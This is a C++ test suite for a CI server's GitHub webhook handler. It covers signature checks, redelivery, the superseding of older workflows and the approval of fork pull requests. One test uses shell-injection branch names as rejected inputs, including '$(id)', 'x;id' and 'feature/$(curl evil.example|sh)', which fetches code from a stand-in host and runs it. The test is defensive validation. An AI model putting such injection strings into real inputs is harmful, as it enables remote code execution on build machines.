// POST /hooks/github over real HTTP: every answer of docs/webhooks.md, what
// each one wrote, and when the orchestrator was told; pull requests from
// forks waiting for approval, and their approval.
#include <fstream>
#include <sstream>
#include <thread>

#include "../test_paths.h"
#include "api_fixture.h"
#include "github/signature.h"
#include "protocol/protocol.h"

namespace api::testing {
namespace {

using namespace std::chrono_literals;

json fixture(const std::string& name) {
  std::ifstream in(testpaths::source_dir() / "tests/github/fixtures" / name);
  if (!in) throw std::runtime_error("missing fixture " + name);
  std::ostringstream text;
  text << in.rdbuf();
  return json::parse(text.str());
}

constexpr const char* kRepository = "https://github.com/baxterthehacker/public-repo";
constexpr const char* kHeadSha = "0d1a26e67d8f5eaf1f6ba5c57fc3c7d91ac0fd1c";

class HookTest : public ApiTest {
 protected:
  void SetUp() override {
    ApiTest::SetUp();
    if (!store_) return;
    const json project = create("baxterthehacker", "public-repo", kRepository);
    project_id_ = project["id"];
    secret_ = project["webhook_secret"];
  }

  // A delivery as GitHub sends it: no bearer token, signed with the project's secret.
  Reply deliver(const std::string& event, const std::string& body, const std::string& delivery = "delivery-1") {
    return deliver_signed(event, body, "sha256=" + github::hmac_sha256_hex(secret_, body), delivery);
  }
  Reply deliver(const std::string& event, const json& body, const std::string& delivery = "delivery-1") {
    return deliver(event, body.dump(), delivery);
  }
  Reply deliver_signed(const std::string& event, const std::string& body, const std::string& signature,
                       const std::string& delivery = "delivery-1") {
    std::vector<std::string> headers{"Content-Type: application/json", "X-GitHub-Event: " + event,
                                     "X-GitHub-Delivery: " + delivery};
    if (!signature.empty()) headers.push_back("X-Hub-Signature-256: " + signature);
    return client_->request("POST", "/hooks/github", body, headers);
  }

  // The queued workflow a 202 names, checked against the store.
  store::Workflow queued(const Reply& reply) {
    EXPECT_EQ(reply.status, 202) << reply.body;
    const json body = json::parse(reply.body);
    EXPECT_EQ(body["outcome"], "queued");
    const std::string id = body["id"];
    EXPECT_EQ(reply.headers.at("location"), "/api/v1/workflows/" + id);
    auto workflow = store_->get_workflow(id);
    EXPECT_TRUE(workflow) << workflow.error().message;
    EXPECT_EQ(workflow->project_id, project_id_);
    EXPECT_EQ(workflow->status, core::Status::Queued);
    EXPECT_EQ(body["event"]["name"], workflow->event.name);
    return *workflow;
  }

  // The reply queued the project's one workflow, for `expected`, and said so once.
  void expect_only_workflow(const Reply& reply, const core::Event& expected) {
    const store::Workflow workflow = queued(reply);
    EXPECT_EQ(workflow.delivery_id, "delivery-1");
    EXPECT_EQ(protocol::to_json(workflow.event), protocol::to_json(expected));
    EXPECT_EQ(workflow_count(project_id_), 1u);
    EXPECT_EQ(workflows_queued_, 1);
  }

  // An answer that changed nothing: no workflow, no call of workflow_queued.
  void expect_nothing_queued(const Reply& reply, int status, const std::string& outcome_or_code) {
    EXPECT_EQ(reply.status, status) << reply.body;
    const json body = json::parse(reply.body);
    EXPECT_EQ(body.contains("error") ? body["error"]["code"] : body["outcome"], outcome_or_code) << reply.body;
    EXPECT_EQ(workflow_count(project_id_), 0u);
    EXPECT_EQ(workflows_queued_, 0);
  }

  std::string project_id_;
  std::string secret_;
};

TEST_P(HookTest, APingIsAnsweredAndQueuesNothing) {
  expect_nothing_queued(deliver("ping", fixture("ping.json")), 200, "ping");
}

TEST_P(HookTest, APushToABranchQueuesAWorkflow) {
  expect_only_workflow(deliver("push", fixture("push_branch.json")),
                       {.name = "push",
                        .branch = "main",
                        .sha = kHeadSha,
                        .changed_paths = {".factory/build.hcl", "Makefile", "README.md", "scripts/build.sh",
                                          "src/main.c"}});
}

// The workflow names the GitHub account whose action sent the delivery.
TEST_P(HookTest, AWebhooksWorkflowWasTriggeredByItsSender) {
  const store::Workflow workflow = queued(deliver("push", fixture("push_branch.json")));
  EXPECT_EQ(workflow.origin.triggered_by, "baxterthehacker");
  const json view = json::parse(call("GET", "/api/v1/workflows/" + workflow.id).body);
  EXPECT_EQ(view["actors"],
            (json{{"triggered_by", "baxterthehacker"}, {"cancelled_by", nullptr}, {"rerun_of", nullptr}}));
  json anonymous = fixture("push_branch.json");
  anonymous.erase("sender");
  EXPECT_EQ(queued(deliver("push", anonymous, "delivery-2")).origin.triggered_by, "");
}

TEST_P(HookTest, APushOfATagQueuesATagWorkflow) {
  expect_only_workflow(deliver("push", fixture("push_tag_annotated.json")),
                       {.name = "tag", .tag = "v1.2.0", .sha = kHeadSha});
}

// For a project that runs them without approval (ForkApprovalTest below has the others).
TEST_P(HookTest, AnOpenedPullRequestFromAForkQueuesAWorkflow) {
  ASSERT_EQ(call("PUT", "/api/v1/projects/" + project_id_, json{{"fork_pr_approval", "never"}}).status, 200);
  expect_only_workflow(
      deliver("pull_request", fixture("pull_request_opened_fork.json")),
      {.name = "pull_request", .branch = "changes", .target_branch = "main", .sha = kHeadSha, .from_fork = true});
}

TEST_P(HookTest, DeliveriesThatStartNoWorkflowAreAnsweredWithTheReason) {
  struct Ignored {
    const char* event;
    const char* payload;
    const char* reason;
  };
  const Ignored deliveries[] = {
      {"pull_request", "pull_request_closed.json", "pull request action 'closed' starts no workflow"},
      {"push", "push_branch_deleted.json", "refs/heads/feature/old-parser was deleted"},
      {"issues", "issues_opened.json", "event 'issues' is not supported"},
  };
  for (const auto& [event, payload, reason] : deliveries) {
    const Reply reply = deliver(event, fixture(payload));
    expect_nothing_queued(reply, 200, "ignored");
    EXPECT_EQ(json::parse(reply.body)["reason"], reason);
  }
}

TEST_P(HookTest, AMalformedBodyIsABadRequest) {
  const Reply reply = deliver("push", std::string{"{\"ref\": \"refs/heads/main\""});
  expect_nothing_queued(reply, 400, "invalid");
  json no_sha = fixture("push_branch.json");
  no_sha["after"] = "not-a-commit";
  expect_nothing_queued(deliver("push", no_sha), 400, "invalid");
  expect_nothing_queued(deliver("", fixture("push_branch.json")), 400, "invalid");  // no X-GitHub-Event
  expect_nothing_queued(deliver("push", fixture("push_branch.json"), ""), 400, "invalid");  // no X-GitHub-Delivery
}

json unknown_repository_push() {
  json payload = fixture("push_branch.json");
  json& repository = payload["repository"];
  repository["full_name"] = "someone/else";
  repository["name"] = "else";
  repository["owner"] = {{"login", "someone"}, {"name", "someone"}};
  repository["html_url"] = "https://github.com/someone/else";
  repository["clone_url"] = "https://github.com/someone/else.git";
  repository["ssh_url"] = "git@github.com:someone/else.git";
  return payload;
}

TEST_P(HookTest, ASignedDeliveryForAnUnknownRepositoryIsNotFound) {
  expect_nothing_queued(deliver("push", unknown_repository_push()), 404, "not_found");
}

// Without a signature nothing tells a repository that has a project from one
// that has none: both are refused alike, before any lookup.
TEST_P(HookTest, AnUnsignedDeliveryIsUnauthorizedWhateverTheRepository) {
  for (const json& payload : {fixture("push_branch.json"), unknown_repository_push()}) {
    for (const char* signature : {"", "sha1=0123", "sha256=", "sha256=xyz", "sha256=0123456789abcdef"}) {
      const Reply reply = deliver_signed("push", payload.dump(), signature);
      expect_nothing_queued(reply, 401, "unauthorized");
      EXPECT_EQ(json::parse(reply.body)["error"]["message"],
                "X-Hub-Signature-256 is missing or not 'sha256=' and 64 hex digits");
    }
  }
}

// Branch and tag names go to git and may reach a `run` script through
// ${event.branch}: a name git would refuse, or that a shell would act on,
// makes the delivery a bad request, even correctly signed.
TEST_P(HookTest, ARefThatIsNotAValidBranchOrTagNameIsABadRequest) {
  for (const char* ref : {"refs/heads/a b", "refs/heads/\x1b[31mred", "refs/heads/$(id)", "refs/heads/`id`",
                          "refs/heads/x;id", "refs/heads/a..b", "refs/heads/-rf", "refs/heads/x.lock",
                          "refs/tags/v1:2", "refs/heads/a//b", "refs/heads/.hidden", "refs/heads/x@{1}"}) {
    json payload = fixture("push_branch.json");
    payload["ref"] = ref;
    const Reply reply = deliver("push", payload);
    expect_nothing_queued(reply, 400, "invalid");
    EXPECT_TRUE(json::parse(reply.body)["error"]["message"].get<std::string>().starts_with("ref names '")) << reply.body;
  }
  for (const char* side : {"head", "base"}) {
    json payload = fixture("pull_request_opened_fork.json");
    payload["pull_request"][side]["ref"] = "feature/$(curl evil.example|sh)";
    expect_nothing_queued(deliver("pull_request", payload), 400, "invalid");
  }
  json payload = fixture("push_branch.json");
  payload["ref"] = "refs/heads/feature/JIRA-12_fix.v2+more#3";  // unusual but harmless
  queued(deliver("push", payload));
}

TEST_P(HookTest, TheProjectIsFoundByAnyOfTheRepositoryUrlsOrByOwnerAndName) {
  const char* urls[] = {"https://github.com/baxterthehacker/public-repo.git",
                        "git@github.com:baxterthehacker/public-repo.git",
                        "https://mirror.example.com/baxterthehacker/public-repo.git"};
  for (const char* url : urls) {
    ASSERT_TRUE(store_->update_project(project_id_, {.url = url}));
    queued(deliver("push", fixture("push_branch.json"), std::string{"delivery-"} + url));
  }
  EXPECT_EQ(workflow_count(project_id_), 3u);
  EXPECT_EQ(workflows_queued_, 3);
}

TEST_P(HookTest, ABadSignatureIsUnauthorized) {
  const std::string body = fixture("push_branch.json").dump();
  const std::string other_secret = "sha256=" + github::hmac_sha256_hex("not the secret", body);
  expect_nothing_queued(deliver_signed("push", body, other_secret), 401, "unauthorized");
  const std::string other_body = "sha256=" + github::hmac_sha256_hex(secret_, body + " ");
  expect_nothing_queued(deliver_signed("push", body, other_body), 401, "unauthorized");
  expect_nothing_queued(deliver_signed("push", body, "sha1=0123"), 401, "unauthorized");
}

TEST_P(HookTest, AMissingSignatureIsUnauthorized) {
  expect_nothing_queued(deliver_signed("push", fixture("push_branch.json").dump(), ""), 401, "unauthorized");
  expect_nothing_queued(deliver_signed("ping", fixture("ping.json").dump(), ""), 401, "unauthorized");
}

TEST_P(HookTest, ARedeliveryAnswersTheFirstWorkflow) {
  const store::Workflow first = queued(deliver("push", fixture("push_branch.json")));
  const Reply again = deliver("push", fixture("push_branch.json"));
  EXPECT_EQ(again.status, 200) << again.body;
  EXPECT_EQ(json::parse(again.body)["outcome"], "duplicate");
  EXPECT_EQ(json::parse(again.body)["id"], first.id);
  EXPECT_EQ(workflow_count(project_id_), 1u);
  EXPECT_EQ(workflows_queued_, 1);
}

TEST_P(HookTest, PayloadsFarOverTheApiBodyLimitAreAccepted) {
  json payload = fixture("push_branch.json");
  payload["padding"] = std::string(1024 * 1024, 'x');  // GitHub's payloads go up to 25 MB
  queued(deliver("push", payload));
}

// Superseding (docs/webhooks.md): a newer push or pull request update
// cancels the older unfinished workflows of its branch, when the project says so.
class SupersedeTest : public HookTest {
 protected:
  Reply push_to(const std::string& branch, const std::string& delivery) {
    json payload = fixture("push_branch.json");
    payload["ref"] = "refs/heads/" + branch;
    return deliver("push", payload, delivery);
  }

  void set(const std::string& setting, bool on) {
    const Reply reply = call("PUT", "/api/v1/projects/" + project_id_, json{{setting, on}});
    ASSERT_EQ(reply.status, 200) << reply.body;
  }

  store::Workflow workflow(const std::string& id) { return store_->get_workflow(id).value(); }

  void expect_cancelled_by(const std::string& id, const store::Workflow& newer) {
    const store::Workflow superseded = workflow(id);
    EXPECT_EQ(superseded.status, core::Status::Cancelled);
    EXPECT_EQ(superseded.status_reason, "superseded by workflow " + newer.id);
    EXPECT_EQ(superseded.cancelled_by, "") << "no person cancelled it";
  }
};

TEST_P(SupersedeTest, ANewPushCancelsTheQueuedOlderOneOfItsBranchOnly) {
  set("cancel_superseded_pushes", true);
  const store::Workflow first = queued(push_to("main", "d1"));
  const store::Workflow feature = queued(push_to("feature", "d2"));
  const store::Workflow second = queued(push_to("main", "d3"));
  expect_cancelled_by(first.id, second);
  EXPECT_EQ(workflow(feature.id).status, core::Status::Queued);
  EXPECT_EQ(workflow(second.id).status, core::Status::Queued);
}

TEST_P(SupersedeTest, ARunningOlderPushIsAskedToCancelThroughItsAgent) {
  set("cancel_superseded_pushes", true);
  auto agent = store_->create_token("pool", store::TokenScope::Agent);
  ASSERT_TRUE(agent);
  const store::Workflow first = queued(push_to("main", "d1"));
  const Reply claimed = agent_call("/api/v1/agent/claim", {{"wait_ms", 5000}}, agent->secret);
  ASSERT_EQ(claimed.status, 200);
  const std::string lease = json::parse(claimed.body)["lease"];
  const std::string heartbeat = "/api/v1/agent/workflows/" + first.id + "/heartbeat";
  EXPECT_EQ(json::parse(agent_call(heartbeat, json::object(), agent->secret, lease).body)["cancel"], false);

  queued(push_to("main", "d2"));
  EXPECT_EQ(json::parse(agent_call(heartbeat, json::object(), agent->secret, lease).body)["cancel"], true);
  EXPECT_EQ(workflow(first.id).status, core::Status::Running);  // until its agent stops it
}

TEST_P(SupersedeTest, PushesSupersedeNothingByDefaultNorOnARedelivery) {
  const store::Workflow first = queued(push_to("main", "d1"));
  const store::Workflow second = queued(push_to("main", "d2"));
  EXPECT_EQ(workflow(first.id).status, core::Status::Queued);

  set("cancel_superseded_pushes", true);
  EXPECT_EQ(json::parse(push_to("main", "d2").body)["outcome"], "duplicate");
  EXPECT_EQ(workflow(first.id).status, core::Status::Queued);
  EXPECT_EQ(workflow(second.id).status, core::Status::Queued);
}

TEST_P(SupersedeTest, PullRequestUpdatesSupersedeByDefaultUnlessTurnedOff) {
  json update = fixture("pull_request_synchronize.json");
  const store::Workflow first = queued(deliver("pull_request", update, "d1"));
  update["pull_request"]["base"]["ref"] = "release";
  const store::Workflow other_target = queued(deliver("pull_request", update, "d2"));
  const store::Workflow second = queued(deliver("pull_request", fixture("pull_request_synchronize.json"), "d3"));
  expect_cancelled_by(first.id, second);
  EXPECT_EQ(workflow(other_target.id).status, core::Status::Queued);

  set("cancel_superseded_pull_requests", false);
  queued(deliver("pull_request", fixture("pull_request_synchronize.json"), "d4"));
  EXPECT_EQ(workflow(second.id).status, core::Status::Queued);
}

// Pull requests from forks wait for approval (docs/people.md), as the
// project's fork_pr_approval says: every one by default.
class ForkApprovalTest : public SupersedeTest {
 protected:
  void SetUp() override {
    admins_ = {"octocat", "hubot"};
    SupersedeTest::SetUp();
    if (!store_) return;
    auto agent = store_->create_token("pool", store::TokenScope::Agent);
    ASSERT_TRUE(agent);
    agent_token_ = agent->secret;
  }

  // The fork's pull request: opened, or with action "synchronize" a new push to it.
  static json fork_pull_request(const std::string& action = "opened", const std::string& association = "NONE") {
    json payload = fixture("pull_request_opened_fork.json");
    payload["action"] = action;
    payload["pull_request"]["author_association"] = association;
    return payload;
  }

  // The workflow a 202 says waits for approval, checked against the store.
  store::Workflow waiting(const Reply& reply) {
    EXPECT_EQ(reply.status, 202) << reply.body;
    const json body = json::parse(reply.body);
    EXPECT_EQ(body["outcome"], "waiting_for_approval");
    EXPECT_TRUE(body["event"]["from_fork"].get<bool>());
    const store::Workflow found = workflow(body["id"]);
    EXPECT_EQ(found.status, core::Status::WaitingForApproval);
    EXPECT_TRUE(found.approval_required);
    return found;
  }

  Reply approve(const std::string& id) { return call("POST", "/api/v1/workflows/" + id + "/approve"); }
  json view(const std::string& id) { return json::parse(call("GET", "/api/v1/workflows/" + id).body); }
  void set_approval(const std::string& setting) {
    const Reply reply = call("PUT", "/api/v1/projects/" + project_id_, json{{"fork_pr_approval", setting}});
    ASSERT_EQ(reply.status, 200) << reply.body;
    EXPECT_EQ(json::parse(reply.body)["fork_pr_approval"], setting);
  }
  Reply claim(int wait_ms) { return agent_call("/api/v1/agent/claim", {{"wait_ms", wait_ms}}, agent_token_); }

  std::string agent_token_;
};

TEST_P(ForkApprovalTest, AForkPullRequestWaitsUntilApprovedThenRunsWithoutSecrets) {
  // Even a secret whose scope lets pull requests have it (docs/secrets.md).
  ASSERT_TRUE(store_->set_secret(project_id_, "DEPLOY_KEY", "hunter22", {{"push", "pull_request"}, {}, {}}));
  const store::Workflow held = waiting(deliver("pull_request", fork_pull_request()));
  EXPECT_EQ(workflows_queued_, 0) << "nothing for the orchestrator yet";
  EXPECT_EQ(claim(0).status, 204);

  const json before = view(held.id);
  EXPECT_EQ(before["status"], "waiting_for_approval");
  const std::string who = "users with write access to baxterthehacker/public-repo, on GitHub or granted in FactoryCI";
  EXPECT_EQ(before["approval"], (json{{"required", true},
                                      {"approved_by", nullptr},
                                      {"approved_at", nullptr},
                                      {"may_approve", {"octocat", "hubot"}},
                                      {"note", who}}));
  EXPECT_EQ(before["waiting_reason"], "approval by " + who);
  const json listed = json::parse(call("GET", "/api/v1/projects/" + project_id_ + "/workflows").body);
  EXPECT_EQ(listed["items"][0]["approval"], before["approval"]);

  // An agent already waiting for work gets it as soon as it is approved.
  Reply job;
  http::testing::Client agent_client(server_->port());
  std::thread agent{[&] {
    job = agent_client.request("POST", "/api/v1/agent/claim", json{{"wait_ms", 20'000}}.dump(),
                               {"Authorization: Bearer " + agent_token_, "Content-Type: application/json"});
  }};
  std::this_thread::sleep_for(200ms);  // the claim waits in the orchestrator
  const Reply approved = approve(held.id);
  agent.join();
  ASSERT_EQ(approved.status, 200) << approved.body;
  EXPECT_EQ(json::parse(approved.body), (json{{"id", held.id}, {"status", "queued"}}));
  EXPECT_EQ(workflows_queued_, 1);
  ASSERT_EQ(job.status, 200) << job.body;
  EXPECT_EQ(json::parse(job.body)["workflow_id"], held.id);
  EXPECT_TRUE(json::parse(job.body)["event"]["from_fork"].get<bool>());
  EXPECT_TRUE(json::parse(job.body)["secrets"].empty()) << job.body;

  const json after = view(held.id);
  EXPECT_EQ(after["status"], "running");
  EXPECT_EQ(after["approval"]["required"], true);
  EXPECT_EQ(after["approval"]["approved_by"], "admin token tests");
  EXPECT_TRUE(after["approval"]["approved_at"].is_string()) << after.dump();
  EXPECT_FALSE(after.contains("waiting_reason"));
}

// Approving needs write: a reader is refused and the workflow keeps
// waiting; a granted writer is listed among those who may approve, and
// approves it in their own name, which the audit log keeps.
TEST_P(ForkApprovalTest, AReaderCannotApproveAndAWriterCan) {
  const store::Workflow held = waiting(deliver("pull_request", fork_pull_request()));
  ASSERT_TRUE(store_->set_member(project_id_, "rita", "read"));
  ASSERT_TRUE(store_->set_member(project_id_, "wendy", "write"));
  auto personal_token = [this](const std::string& login, std::int64_t github_id) {
    auto user = store_->sign_in_user({.id = github_id, .login = login, .name = login, .avatar_url = {}});
    EXPECT_TRUE(user);
    const auto tomorrow =
        std::chrono::time_point_cast<std::chrono::milliseconds>(std::chrono::system_clock::now() + 24h);
    auto token = store_->create_personal_token(
        {.user_id = user->id, .name = "cli", .access = store::TokenAccess::Write, .expires_at = tomorrow});
    EXPECT_TRUE(token);
    return "Authorization: Bearer " + token->secret;
  };
  const std::string reader = personal_token("rita", 101), writer = personal_token("wendy", 102);
  const std::string path = "/api/v1/workflows/" + held.id + "/approve";

  const Reply rerun = client_->request("POST", "/api/v1/workflows/" + held.id + "/rerun", {}, {writer});
  EXPECT_EQ(rerun.status, 409) << "a rerun would skip the approval: " << rerun.body;
  const Reply refused = client_->request("POST", path, {}, {reader});
  EXPECT_EQ(refused.status, 403) << refused.body;
  EXPECT_EQ(workflow(held.id).status, core::Status::WaitingForApproval);
  EXPECT_EQ(view(held.id)["approval"]["may_approve"], (json{"octocat", "hubot", "wendy"}));

  const Reply approved = client_->request("POST", path, {}, {writer});
  ASSERT_EQ(approved.status, 200) << approved.body;
  EXPECT_EQ(workflow(held.id).approved_by, "wendy");
  const auto entries = store_->list_audit_entries({.action = "workflow.approve"}, {});
  ASSERT_TRUE(entries);
  ASSERT_EQ(entries->items.size(), 1u);
  EXPECT_EQ(entries->items[0].actor, "wendy");
  EXPECT_EQ(entries->items[0].project_id, project_id_);
}

TEST_P(ForkApprovalTest, OnlyAWaitingWorkflowCanBeApproved) {
  const store::Workflow held = waiting(deliver("pull_request", fork_pull_request()));
  ASSERT_EQ(approve(held.id).status, 200);
  const Reply again = approve(held.id);
  EXPECT_EQ(again.status, 409) << again.body;
  EXPECT_EQ(json::parse(again.body)["error"]["message"],
            "workflow " + held.id + " is queued: only a workflow waiting for approval can be approved");
  EXPECT_EQ(workflows_queued_, 1);

  const store::Workflow pushed = queued(push_to("main", "d2"));
  EXPECT_EQ(approve(pushed.id).status, 409);
  EXPECT_EQ(view(pushed.id)["approval"]["required"], false);
  EXPECT_EQ(approve("0193a4c2-5e1f-7b10-9c2d-3e4f5a6b7c8d").status, 404);
  EXPECT_EQ(client_->request("POST", "/api/v1/workflows/" + pushed.id + "/approve").status, 401);
}

TEST_P(ForkApprovalTest, AWaitingWorkflowCanBeCancelledAndIsThenNoLongerApproved) {
  const store::Workflow held = waiting(deliver("pull_request", fork_pull_request()));
  const Reply cancelled = call("POST", "/api/v1/workflows/" + held.id + "/cancel");
  ASSERT_EQ(cancelled.status, 200) << cancelled.body;
  EXPECT_EQ(json::parse(cancelled.body)["status"], "cancelled");
  EXPECT_EQ(workflow(held.id).status, core::Status::Cancelled);
  EXPECT_EQ(approve(held.id).status, 409);
  EXPECT_EQ(claim(0).status, 204);
}

TEST_P(ForkApprovalTest, PullRequestsFromTheRepositoryAndPushesQueueAtOnce) {
  queued(deliver("pull_request", fixture("pull_request_synchronize.json"), "d1"));
  queued(push_to("main", "d2"));
  EXPECT_EQ(workflows_queued_, 2);
}

// Each push to the fork's pull request is code nobody approved yet: its
// workflow waits again, and cancels the older ones, approved or not.
TEST_P(ForkApprovalTest, ANewPushToTheForkPullRequestWaitsAgain) {
  const store::Workflow opened = waiting(deliver("pull_request", fork_pull_request(), "d1"));
  ASSERT_EQ(approve(opened.id).status, 200);
  const store::Workflow pushed = waiting(deliver("pull_request", fork_pull_request("synchronize"), "d2"));
  expect_cancelled_by(opened.id, pushed);
  const store::Workflow pushed_again = waiting(deliver("pull_request", fork_pull_request("synchronize"), "d3"));
  expect_cancelled_by(pushed.id, pushed_again);
  EXPECT_EQ(approve(pushed.id).status, 409);
  EXPECT_EQ(json::parse(deliver("pull_request", fork_pull_request("synchronize"), "d3").body)["outcome"], "duplicate");
  EXPECT_EQ(workflow(pushed_again.id).status, core::Status::WaitingForApproval);
}

// Anyone can open a pull request from a fork's branch named as the
// repository's: it cancels nothing of the repository's own.
TEST_P(ForkApprovalTest, AForkNeverSupersedesAPullRequestOfTheRepository) {
  json own = fixture("pull_request_synchronize.json");
  own["pull_request"]["head"]["ref"] = "changes";  // the fork's branch name
  const store::Workflow inside = queued(deliver("pull_request", own, "d1"));
  waiting(deliver("pull_request", fork_pull_request(), "d2"));
  EXPECT_EQ(workflow(inside.id).status, core::Status::Queued);
}

TEST_P(ForkApprovalTest, NeverRunsForkPullRequestsAtOnce) {
  set_approval("never");
  const store::Workflow ran = queued(deliver("pull_request", fork_pull_request()));
  EXPECT_FALSE(ran.approval_required);
  EXPECT_EQ(view(ran.id)["approval"]["required"], false);
  EXPECT_EQ(workflows_queued_, 1);
}

TEST_P(ForkApprovalTest, FirstTimeHoldsOnlyAuthorsWhoHaveNotContributedBefore) {
  set_approval("first_time");
  int delivery = 0;
  for (const char* association : {"OWNER", "MEMBER", "COLLABORATOR", "CONTRIBUTOR"}) {
    SCOPED_TRACE(association);
    queued(deliver("pull_request", fork_pull_request("opened", association), "d" + std::to_string(++delivery)));
  }
  // What GitHub may add later, or a payload without one, is held too.
  for (const char* association : {"FIRST_TIME_CONTRIBUTOR", "FIRST_TIMER", "NONE", "MANNEQUIN", ""}) {
    SCOPED_TRACE(association);
    waiting(deliver("pull_request", fork_pull_request("opened", association), "d" + std::to_string(++delivery)));
  }
  json without = fork_pull_request();
  without["pull_request"].erase("author_association");
  waiting(deliver("pull_request", without, "d" + std::to_string(++delivery)));
  EXPECT_EQ(workflows_queued_, 4);
}

TEST_P(ForkApprovalTest, TheProjectSettingIsShownAndChecked) {
  const json project = json::parse(call("GET", "/api/v1/projects/" + project_id_).body);
  EXPECT_EQ(project["fork_pr_approval"], "all");
  const Reply created = call("POST", "/api/v1/projects",
                             json{{"owner", "acme"}, {"name", "sled"}, {"url", "https://github.com/acme/sled"},
                                  {"fork_pr_approval", "first_time"}});
  ASSERT_EQ(created.status, 201) << created.body;
  EXPECT_EQ(json::parse(created.body)["fork_pr_approval"], "first_time");
  set_approval("never");
  set_approval("all");

  for (const json& bad : {json("sometimes"), json("ALL"), json(true), json(1)}) {
    const Reply refused = call("PUT", "/api/v1/projects/" + project_id_, json{{"fork_pr_approval", bad}});
    EXPECT_EQ(refused.status, 400) << refused.body;
    EXPECT_EQ(error_code(refused), "invalid");
  }
  const Reply refused = call("PUT", "/api/v1/projects/" + project_id_, json{{"fork_pr_approval", "sometimes"}});
  EXPECT_EQ(json::parse(refused.body)["error"]["message"],
            "fork_pr_approval must be \"all\" (every pull request from a fork waits for approval), \"first_time\" "
            "(only those of first-time contributors) or \"never\"");
  EXPECT_EQ(call("POST", "/api/v1/projects",
                 json{{"owner", "acme"}, {"name", "skis"}, {"url", "https://github.com/acme/skis"},
                      {"fork_pr_approval", "sometimes"}})
                .status,
            400);
  EXPECT_EQ(store_->get_project(project_id_)->fork_pr_approval, store::ForkApproval::All);
}

INSTANTIATE_TEST_SUITE_P(Backends, ForkApprovalTest, ::testing::ValuesIn(kBackends), backend_name);
INSTANTIATE_TEST_SUITE_P(Backends, SupersedeTest, ::testing::ValuesIn(kBackends), backend_name);
INSTANTIATE_TEST_SUITE_P(Backends, HookTest, ::testing::ValuesIn(kBackends), backend_name);

}  // namespace
}  // namespace api::testing
